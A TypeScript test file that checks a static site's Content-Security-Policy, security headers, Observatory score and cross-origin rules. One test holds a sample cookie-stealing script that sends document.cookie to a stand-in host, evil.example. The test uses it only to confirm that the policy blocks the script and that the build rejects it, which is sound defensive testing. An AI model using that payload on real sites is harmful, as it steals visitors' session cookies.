import { createHash } from 'node:crypto'
import { headingFaces } from '../../../src/lib/heading-font'
import { flattenPages } from '../../../src/publish/flat-pages/flatten-pages'
import type { AllowedInline } from '../../../src/publish/headers/blocked-inline'
import { writeHeaders } from '../../../src/publish/headers/write-headers'
import { type RunningServer, startServer } from '../../../tools/host/start-server'
import { css, gatsbySite } from '../gatsby-site'
import { observatoryScore } from './observatory'

const site = gatsbySite({ pages: { '/': {}, '/about': {} } })
let inline: AllowedInline
let server: RunningServer
let headers: Record<string, string>
let html: string

beforeAll(async () => {
  inline = (await flattenPages(site)).inline
  await writeHeaders(site, inline)
  server = await startServer({ folder: site.publicFolder, port: 0 })
  const response = await fetch(`${server.url}/about`)
  headers = Object.fromEntries(response.headers)
  html = await response.text()
})
afterAll(() => server.close())

/** The sources that a directive of the page's policy allows. */
function allowed(directive: string): string[] {
  const directives = headers['content-security-policy']?.split('; ') ?? []
  return (
    directives
      .find((one) => one.startsWith(`${directive} `))
      ?.split(' ')
      .slice(1) ?? []
  )
}

/** Whether the policy allows an inline script or style with this text. */
function allowsInline(directive: string, text: string): boolean {
  const hash = createHash('sha256').update(text).digest('base64')
  return allowed(directive).some((source) => source === `'sha256-${hash}'`)
}

test('the policy allows what the page needs', () => {
  const scripts = [...html.matchAll(/<script(?![^>]*\ssrc)[^>]*>([\s\S]*?)<\/script>/g)]
  expect(scripts).toHaveLength(1)
  for (const [, text] of scripts) expect(allowsInline('script-src', text ?? '')).toBe(true)
  expect(allowsInline('style-src', css)).toBe(true)
  expect(allowsInline('style-src', headingFaces)).toBe(true)
  // Sonner adds its style element empty, then fills it.
  expect(allowsInline('style-src', '')).toBe(true)
  expect(allowed('style-src')).toHaveLength(5)
  expect(allowed('style-src-attr')).toEqual(["'unsafe-inline'"])
  expect(allowed('img-src')).toEqual(["'self'", 'data:', 'https://images.unsplash.com'])
  for (const kind of ['font-src', 'connect-src', 'worker-src', 'manifest-src', 'form-action']) {
    expect([kind, ...allowed(kind)]).toEqual([kind, "'self'"])
  }
})

test('the policy allows nothing else', () => {
  for (const kind of ['default-src', 'frame-ancestors', 'base-uri', 'object-src']) {
    expect([kind, ...allowed(kind)]).toEqual([kind, "'none'"])
  }
  expect(allowed('script-src').join(' ')).not.toMatch(/unsafe|https?:|\*|data:/)
  expect(allowed('style-src').join(' ')).not.toMatch(/unsafe|https?:|\*|data:/)
})

test('a script added to a page later is blocked and stops the next build', async () => {
  const injected = 'fetch("https://evil.example/?c="+document.cookie)'
  expect(allowsInline('script-src', injected)).toBe(false)
  expect(allowed('connect-src')).toEqual(["'self'"])

  const next = gatsbySite({ pages: { '/': { body: `<script>${injected}</script>` } } })
  await expect(flattenPages(next)).rejects.toThrow('contains an inline script')
  await writeHeaders(next, inline)
  const nextServer = await startServer({ folder: next.publicFolder, port: 0 })
  const policy = (await fetch(nextServer.url)).headers.get('content-security-policy')
  await nextServer.close()
  expect(policy).toBe(headers['content-security-policy'])
})

test('the Observatory score is at least 120', () => {
  expect(observatoryScore(headers, html)).toBe(140)
})

test('headers enforce https and forbid framing and sensors', () => {
  expect(headers).toMatchObject({
    'strict-transport-security': 'max-age=63072000',
    'x-frame-options': 'DENY',
    'x-content-type-options': 'nosniff',
    'referrer-policy': 'same-origin',
    'cross-origin-opener-policy': 'same-origin',
    'cross-origin-resource-policy': 'same-origin',
  })
  expect(headers['permissions-policy']).toMatch(/camera=\(\), .*geolocation=\(\)/)
})

test('other sites, such as feed readers, may show pictures', async () => {
  const { headers } = await fetch(`${server.url}/static/picture.jpg`)
  expect(headers.get('cross-origin-resource-policy')).toBeNull()
})
